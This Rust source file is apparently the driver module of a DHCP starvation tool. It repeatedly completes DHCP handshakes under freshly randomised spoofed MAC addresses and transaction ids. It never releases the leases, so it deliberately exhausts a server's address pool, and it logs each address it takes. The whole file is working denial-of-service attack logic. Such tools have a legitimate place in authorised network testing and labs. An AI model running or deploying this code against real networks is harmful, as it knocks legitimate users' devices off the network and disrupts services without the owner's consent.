//! DHCP starvation driver
//!
//! Runs one full handshake per iteration, each under a fresh spoofed hardware
//! address and xid. Leases are never released, so every successful iteration
//! permanently removes one address from the server's pool.

use crate::{
    client::{DhcpClient, Lease},
    config::AttackConfig,
    network::Transport,
    v4::TransactionContext,
};
use rand::Rng;

/// Outcome of an attack run.
#[derive(Debug, Default, Clone)]
pub struct AttackReport {
    pub attempts: usize,
    pub leases: Vec<Lease>,
    pub failures: usize,
}

impl AttackReport {
    pub fn bound(&self) -> usize {
        self.leases.len()
    }
}

pub struct AttackDriver<'t, T> {
    transport: &'t T,
    config: AttackConfig,
}

impl<'t, T: Transport> AttackDriver<'t, T> {
    pub fn new(transport: &'t T, config: AttackConfig) -> Self {
        Self { transport, config }
    }

    pub async fn run(&self) -> AttackReport {
        self.run_with_rng(&mut rand::rng()).await
    }

    /// Runs every iteration, drawing identities from `rng`.
    pub async fn run_with_rng<R: Rng>(&self, rng: &mut R) -> AttackReport {
        let total = self.config.iterations;
        let mut report = AttackReport::default();

        for iteration in 1..=total {
            let transaction = TransactionContext::random(rng);
            tracing::info!(
                "[{}/{}] Spoofing {}",
                iteration,
                total,
                transaction.hardware_addr()
            );

            report.attempts += 1;
            let mut client =
                DhcpClient::for_transaction(self.transport, &self.config.client, transaction);
            match client.run().await {
                Ok(lease) => {
                    tracing::info!("[{}/{}] Took {}", iteration, total, lease.offered_ip);
                    report.leases.push(lease);
                }
                Err(e) => {
                    tracing::warn!("[{}/{}] Handshake failed: {}", iteration, total, e);
                    report.failures += 1;
                }
            }
        }

        tracing::info!(
            "Starvation finished: {} addresses taken, {} handshakes failed",
            report.bound(),
            report.failures
        );
        report
    }
}
